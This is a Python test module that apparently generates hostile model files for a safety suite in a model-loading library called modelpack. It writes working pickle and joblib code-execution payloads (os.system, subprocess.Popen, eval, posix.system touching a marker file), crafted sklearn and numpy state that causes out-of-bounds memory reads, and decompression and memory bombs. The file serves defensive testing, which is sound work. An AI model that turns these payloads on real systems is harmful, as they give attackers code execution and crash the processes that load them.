"""Hostile model files, generated: every attack class modelpack must hold against.

Each attack is a function of the folder to write into and a marker path (that a payload
would create) returning the file's path. ``python tests/safety/hostile.py DIR`` writes the
whole corpus, for trying it by hand; the suite calls the functions directly.
"""

from __future__ import annotations

import copy
import pickle
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np


def op_global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def op_value(value: Any) -> bytes:
    """The opcodes that push ``value`` (no PROTO, no STOP)."""
    data = pickle.dumps(value, protocol=2)
    return data[2:-1]


def call(module: str, name: str, *args: Any, proto: int = 2) -> bytes:
    return bytes([0x80, proto]) + op_global(module, name) + op_value(args) + b"R."


class Reduce:
    """Pickles as ``func(*args)`` then BUILD ``state``: any global, any arguments."""

    def __init__(self, func: Any, args: tuple[Any, ...], state: Any = None) -> None:
        self.func, self.args, self.state = func, args, state

    def __reduce__(self) -> Any:
        return (self.func, self.args) if self.state is None else (self.func, self.args, self.state)


def _forest(n_estimators: int = 3):
    from sklearn.ensemble import RandomForestClassifier

    rng = np.random.default_rng(0)
    X = rng.normal(size=(80, 4))
    return RandomForestClassifier(n_estimators=n_estimators, max_depth=3, random_state=0).fit(X, X[:, 0] > 0), X


def _tree_with(mutate: Callable[[dict[str, Any]], None], index: int = 0) -> Any:
    """A fitted forest whose tree ``index``'s state was changed by ``mutate`` (through Tree's reduce)."""
    from sklearn.tree._tree import Tree

    forest, _ = _forest(5)
    tree = forest.estimators_[index].tree_
    _, args, state = tree.__reduce__()
    state = copy.deepcopy(state)
    mutate(state)
    forest.estimators_[index].tree_ = Reduce(Tree, args, state)
    return forest


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


# --- code execution -------------------------------------------------------------------------------


def attribute_walk(folder: Path, marker: Path) -> Path:
    """An allowlisted module's attribute chain reaching subprocess.Popen (the 92-byte exploit)."""
    return _write(folder, "walk.pkl", call("sklearn._loss.loss", "np.f2py.subprocess.Popen", ["touch", str(marker)]))


def partial_eval_in_transformer(folder: Path, marker: Path) -> Path:
    import functools

    from sklearn.preprocessing import FunctionTransformer

    ft = FunctionTransformer(func=functools.partial(eval, f"open({str(marker)!r}, 'w')")).fit([[1.0]])
    return _write(folder, "partial_eval.pkl", pickle.dumps(ft, protocol=5))


def attrgetter_chain(folder: Path, marker: Path) -> Path:
    import operator

    return _write(folder, "attrgetter.pkl", pickle.dumps(Reduce(operator.attrgetter, ("system",)), protocol=4))


def os_system_in_joblib(compress: Any) -> Callable[[Path, Path], Path]:
    def attack(folder: Path, marker: Path) -> Path:
        import os

        import joblib

        from conftest import models

        pipe = copy.deepcopy(models()["pipeline_frame"].model)
        pipe.steps[0][1].transformers_[1][1].mean_ = Reduce(os.system, (f"touch {marker}",))
        path = folder / f"hidden_{compress}.joblib"
        joblib.dump(pipe, path, compress=compress)
        return path

    attack.__name__ = f"os_system_in_joblib_{compress}"
    return attack


def booster_from_path(folder: Path, marker: Path) -> Path:
    return _write(folder, "booster_path.pkl", call("xgboost.core", "Booster", None, None, "/etc/passwd"))


def lightgbm_booster_from_dev_zero(folder: Path, marker: Path) -> Path:
    return _write(folder, "lgbm_path.pkl", call("lightgbm.basic", "Booster", None, None, "/dev/zero"))


# --- memory safety ----------------------------------------------------------------------------------


def tree_child_out_of_range(folder: Path, marker: Path) -> Path:
    def mutate(state: dict[str, Any]) -> None:
        state["nodes"]["left_child"][0] = 10**9

    return _write(folder, "tree_oob.pkl", pickle.dumps(_tree_with(mutate), protocol=5))


def tree_cycle(folder: Path, marker: Path) -> Path:
    def mutate(state: dict[str, Any]) -> None:
        inner = np.flatnonzero(state["nodes"]["left_child"] != -1)
        state["nodes"]["left_child"][inner[-1]] = 0  # back to the root: predict would never end

    return _write(folder, "tree_cycle.pkl", pickle.dumps(_tree_with(mutate), protocol=5))


def tree_feature_out_of_range(folder: Path, marker: Path) -> Path:
    def mutate(state: dict[str, Any]) -> None:
        state["nodes"]["feature"][0] = 10**6

    return _write(folder, "tree_feature.pkl", pickle.dumps(_tree_with(mutate), protocol=5))


def tree_depth_understated(folder: Path, marker: Path) -> Path:
    """The last tree claims less depth than it has: decision_path sizes its buffer by the claim."""
    def mutate(state: dict[str, Any]) -> None:
        state["max_depth"] -= 1

    return _write(folder, "tree_depth.pkl", pickle.dumps(_tree_with(mutate, index=-1), protocol=5))


def tree_child_in_the_next_tree(folder: Path, marker: Path) -> Path:
    """A middle tree's last node points one past its own end: into the next tree's nodes, were they
    checked together without each tree's bounds."""
    def mutate(state: dict[str, Any]) -> None:
        nodes = state["nodes"]
        inner = np.flatnonzero(nodes["left_child"] != -1)
        nodes["right_child"][inner[-1]] = len(nodes)

    return _write(folder, "tree_next.pkl", pickle.dumps(_tree_with(mutate, index=2), protocol=5))


def _hist_gradient_boosting_with_a_child_in_the_next_tree() -> Any:
    """A fitted HistGradientBoosting model whose middle predictor's last split points one past its
    own nodes: into the next predictor's, were they checked as one array."""
    from sklearn.ensemble import HistGradientBoostingClassifier

    rng = np.random.default_rng(0)
    X = rng.normal(size=(200, 4))
    model = HistGradientBoostingClassifier(max_iter=5, random_state=0).fit(X, X[:, 0] > 0)
    nodes = model._predictors[2][0].nodes
    inner = np.flatnonzero(nodes["is_leaf"] == 0)
    nodes["right"][inner[-1]] = len(nodes)
    return model


def _skops(folder: Path, name: str, model: Any) -> Path:
    import skops.io as sio

    path = folder / name
    sio.dump(model, path)
    return path


def hist_gradient_boosting_child_in_the_next_tree(folder: Path, marker: Path) -> Path:
    return _write(folder, "hgb_next.pkl", pickle.dumps(_hist_gradient_boosting_with_a_child_in_the_next_tree(), protocol=5))


def skops_hist_gradient_boosting_child_in_the_next_tree(folder: Path, marker: Path) -> Path:
    return _skops(folder, "hgb_next.skops", _hist_gradient_boosting_with_a_child_in_the_next_tree())


def tree_short_n_classes(folder: Path, marker: Path) -> Path:
    from sklearn.tree._tree import Tree

    return _write(folder, "tree_ctor.pkl", pickle.dumps(Reduce(Tree, (4, np.array([2]), 50)), protocol=5))


def dtype_hidden_object(folder: Path, marker: Path) -> Path:
    """A structured dtype with an object field whose flags say "no objects": raw bytes become a pointer."""
    fields = {"a": (np.dtype("f8"), 0), "b": (np.dtype("O"), 8)}
    fake_dtype = Reduce(np.dtype, ("V16", False, True), (3, "|", None, ("a", "b"), fields, 16, 1, 16))
    raw = (0x4141414141414141).to_bytes(8, "little") * 2
    array = Reduce(np._core.multiarray._reconstruct, (np.ndarray, (0,), b"b"), (1, (1,), fake_dtype, False, raw))
    return _write(folder, "dtype_pointer.pkl", pickle.dumps({"coef_": array}, protocol=2))


# --- memory and time ----------------------------------------------------------------------------------


def bytearray_bomb(folder: Path, marker: Path) -> Path:
    return _write(folder, "bytearray.pkl", call("builtins", "bytearray", 6 * 10**9))


def range_list_bomb(folder: Path, marker: Path) -> Path:
    data = b"\x80\x02" + op_global("builtins", "list") + op_global("builtins", "range") + op_value((3 * 10**8,)) + b"R" + b"\x85R."
    return _write(folder, "range.pkl", data)


def bytearray8_bomb(folder: Path, marker: Path) -> Path:
    return _write(folder, "bytearray8.pkl", b"\x80\x05\x96" + (20 * 10**9).to_bytes(8, "little") + b".")


def memo_index_bomb(folder: Path, marker: Path) -> Path:
    """LONG_BINPUT at index 2**31: the C unpickler would resize its memo to 2**32 entries (32 GiB) and zero it."""
    return _write(folder, "memo.pkl", b"\x80\x02N" + b"r" + (2**31 - 1).to_bytes(4, "little") + b".")


def deep_nesting(folder: Path, marker: Path) -> Path:
    return _write(folder, "deep.pkl", b"\x80\x02" + b"(" * 200_000 + b"N.")


def joblib_zlib_bomb(folder: Path, marker: Path) -> Path:
    """1.5 GB of zeros that compress to 1.5 MB, as one bytes object in a zlib joblib stream."""
    import zlib

    n = 3 * 10**9 // 2
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(b"\x80\x04\x8e" + n.to_bytes(8, "little"))]
    chunk = bytes(1 << 24)
    for _ in range(n // len(chunk)):
        parts.append(compressor.compress(chunk))
    parts.append(compressor.compress(bytes(n % len(chunk)) + b"."))
    parts.append(compressor.flush())
    return _write(folder, "bomb.joblib", b"".join(parts))


def skops_metadata_bomb(folder: Path, marker: Path) -> Path:
    """A skops file whose modelpack.json member inflates to 1 GiB (1 MB on disk)."""
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression

    path = folder / "bomb.skops"
    sio.dump(LogisticRegression().fit([[0.0], [1.0]], [0, 1]), path)
    add_zip_bomb(path, "modelpack.json", mib=1024)
    return path


def add_zip_bomb(path: Path, member: str, mib: int = 320) -> None:
    """Append ``member`` to the zip at ``path``: ``mib`` MiB of spaces, a few hundred kB on disk."""
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open(member, "w", force_zip64=True) as written:
            chunk = b" " * (1 << 24)
            for _ in range(mib // 16):
                written.write(chunk)


def skops_tree_child_in_the_next_tree(folder: Path, marker: Path) -> Path:
    """A skops forest whose middle tree points one past its own end: skops builds the trees, and
    modelpack checks them all, each against its own bounds, before anything predicts."""
    import skops.io as sio

    forest, _ = _forest(5)
    tree = forest.estimators_[2].tree_
    inner = np.flatnonzero(tree.children_left != -1)
    tree.children_right[inner[-1]] = tree.node_count  # a view of the tree's own nodes: written in place
    path = folder / "tree_next.skops"
    sio.dump(forest, path)
    return path


def class_swap_through_slot_state(folder: Path, marker: Path) -> Path:
    """NEWOBJ an admitted plain class, then BUILD with slot state {"__class__": another}: setattr would swap
    the object's class, so it would never get that class's own state checks."""
    data = (b"\x80\x02" + op_global("sklearn.neural_network._stochastic_optimizers", "AdamOptimizer") + b")\x81"  # NEWOBJ
            + b"N}" + op_value("__class__") + op_global("sklearn.model_selection._split", "StratifiedKFold") + b"s"
            + b"\x86b.")  # BUILD (None, {"__class__": StratifiedKFold})
    return _write(folder, "class_swap.pkl", data)


def svm_support_counts_overflow(folder: Path, marker: Path) -> Path:
    """An SVC whose per-class support counts add up to more vectors than it holds: libsvm reads past them."""
    from sklearn.svm import SVC

    rng = np.random.default_rng(0)
    X = rng.normal(size=(60, 3))
    model = SVC().fit(X, X[:, 0] > 0)
    model._n_support = model._n_support * 50
    return _write(folder, "svm_counts.pkl", pickle.dumps(model, protocol=5))


def kmeans_short_centers(folder: Path, marker: Path) -> Path:
    """KMeans centers with fewer columns than the model's inputs: its Cython reads past each row."""
    from sklearn.cluster import KMeans

    X = np.random.default_rng(0).normal(size=(60, 4))
    model = KMeans(3, n_init=1, random_state=0).fit(X)
    model.cluster_centers_ = np.ascontiguousarray(model.cluster_centers_[:, :1])
    return _write(folder, "kmeans_centers.pkl", pickle.dumps(model, protocol=5))


def _gradient_boosting_wider_than_its_start() -> Any:
    """A three-class GradientBoosting model whose initial estimator gives one column: predict_stages adds
    the trees of classes 1 and 2 past the end of those predictions (a segmentation fault before its guard)."""
    from sklearn.datasets import load_iris
    from sklearn.ensemble import GradientBoostingClassifier

    X, y = load_iris(return_X_y=True)
    model = GradientBoostingClassifier(n_estimators=5, random_state=0).fit(X, y)
    model.init_.class_prior_ = model.init_.class_prior_[:1]
    return model


def gradient_boosting_wider_than_its_start(folder: Path, marker: Path) -> Path:
    return _write(folder, "gb_wide.pkl", pickle.dumps(_gradient_boosting_wider_than_its_start(), protocol=5))


def skops_gradient_boosting_wider_than_its_start(folder: Path, marker: Path) -> Path:
    return _skops(folder, "gb_wide.skops", _gradient_boosting_wider_than_its_start())


def gradient_boosting_more_trees_per_stage(folder: Path, marker: Path) -> Path:
    """A binary GradientBoosting model with 20,000 trees per stage, and the n_trees_per_iteration_ to match:
    each would be added to a column of a one-column array (a segmentation fault before its guard)."""
    from sklearn.datasets import load_iris
    from sklearn.ensemble import GradientBoostingClassifier

    X, y = load_iris(return_X_y=True)
    model = GradientBoostingClassifier(n_estimators=2, random_state=0).fit(X, y == 1)
    model.estimators_ = np.array([[model.estimators_[0, 0]] * 20_000] * 2, dtype=object)
    model.n_trees_per_iteration_ = 20_000
    return _write(folder, "gb_stages.pkl", pickle.dumps(model, protocol=5))


def bisecting_kmeans_short_centers(folder: Path, marker: Path) -> Path:
    """A BisectingKMeans whose clusters' centers have one value for 50 features: the Cython of KMeans
    reads 49 past each (a BisectingKMeans could not be loaded without trust before its routine was
    admitted as a value; its tree is checked since)."""
    from sklearn.cluster import BisectingKMeans

    X = np.random.default_rng(0).uniform(size=(200, 50))
    model = BisectingKMeans(4, random_state=0).fit(X)
    for node in (model._bisecting_tree.left, model._bisecting_tree.right):
        node.center = node.center[:1].copy()
    del model._X_mean
    return _write(folder, "bisecting_centers.pkl", pickle.dumps(model, protocol=5))


def spline_short_coefficients(folder: Path, marker: Path) -> Path:
    """A SplineTransformer whose first spline has one coefficient for its seven basis functions: scipy's
    Cython reads past them (garbage numbers in the output) once a spline of scipy 1.15 could be loaded."""
    from sklearn.preprocessing import SplineTransformer

    X = np.random.default_rng(0).uniform(size=(50, 4))
    model = SplineTransformer().fit(X)
    spline = model.bsplines_[0]
    spline.__dict__["_c" if "_c" in vars(spline) else "c"] = np.ascontiguousarray(spline.c[:1])
    return _write(folder, "spline_short.pkl", pickle.dumps(model, protocol=5))


def sparse_indices_out_of_range(folder: Path, marker: Path) -> Path:
    """A SparseRandomProjection whose CSR components name column 10**8 of a 100-column input: scipy's
    C++ product reads there (a segmentation fault before the sparse matrix's guard)."""
    from sklearn.random_projection import SparseRandomProjection

    model = SparseRandomProjection(n_components=5, random_state=0).fit(np.random.default_rng(0).uniform(size=(50, 100)))
    model.components_.indices = np.full_like(model.components_.indices, 10**8)
    return _write(folder, "sparse_indices.pkl", pickle.dumps(model, protocol=5))


def kmeans_negative_threads(folder: Path, marker: Path) -> Path:
    """A BisectingKMeans whose OpenMP thread count is -5: libgomp asked for 900 GB and aborted the process."""
    from sklearn.cluster import BisectingKMeans

    model = BisectingKMeans(3, random_state=0).fit(np.random.default_rng(0).uniform(size=(100, 4)))
    model._n_threads = -5
    return _write(folder, "kmeans_threads.pkl", pickle.dumps(model, protocol=5))


def agglomeration_huge_label(folder: Path, marker: Path) -> Path:
    """A FeatureAgglomeration whose labels say cluster 10**8: transform pools each row into a 10**8-long
    array (the process was killed for memory)."""
    from sklearn.cluster import FeatureAgglomeration

    model = FeatureAgglomeration(2).fit(np.random.default_rng(0).uniform(size=(30, 4)))
    model.labels_ = np.full_like(model.labels_, 10**8)
    return _write(folder, "agglomeration_labels.pkl", pickle.dumps(model, protocol=5))


def svr_one_support_count(folder: Path, marker: Path) -> Path:
    """An SVR with one support count where libsvm keeps two for a regression: it read a null row of
    coefficients (a segmentation fault)."""
    from sklearn.svm import SVR

    X = np.random.default_rng(0).uniform(size=(40, 4))
    model = SVR().fit(X, X[:, 0])
    model._n_support = np.ascontiguousarray(model._n_support[:1])
    return _write(folder, "svr_counts.pkl", pickle.dumps(model, protocol=5))


def unparsable_prefix(folder: Path, marker: Path) -> Path:
    """An opcode no parser knows, then a payload: what hid globals from the old info."""
    return _write(folder, "blind.pkl", b"\x80\x02\xff" + call("posix", "system", f"touch {marker}")[2:])


ATTACKS: list[Callable[[Path, Path], Path]] = [
    attribute_walk, partial_eval_in_transformer, attrgetter_chain,
    *(os_system_in_joblib(c) for c in (0, 3, "gzip", "bz2", "lzma", "xz", "zlib")),
    booster_from_path, lightgbm_booster_from_dev_zero,
    tree_child_out_of_range, tree_cycle, tree_feature_out_of_range, tree_depth_understated,
    tree_child_in_the_next_tree, hist_gradient_boosting_child_in_the_next_tree,
    skops_hist_gradient_boosting_child_in_the_next_tree, tree_short_n_classes, dtype_hidden_object,
    bytearray_bomb, range_list_bomb, bytearray8_bomb, memo_index_bomb, deep_nesting, joblib_zlib_bomb,
    skops_metadata_bomb, skops_tree_child_in_the_next_tree, class_swap_through_slot_state, svm_support_counts_overflow, kmeans_short_centers,
    gradient_boosting_wider_than_its_start, skops_gradient_boosting_wider_than_its_start,
    gradient_boosting_more_trees_per_stage, bisecting_kmeans_short_centers, spline_short_coefficients,
    sparse_indices_out_of_range, kmeans_negative_threads, agglomeration_huge_label, svr_one_support_count,
    unparsable_prefix,
]


if __name__ == "__main__":
    out = Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    for attack in ATTACKS:
        print(attack(out, out / "PWNED"))
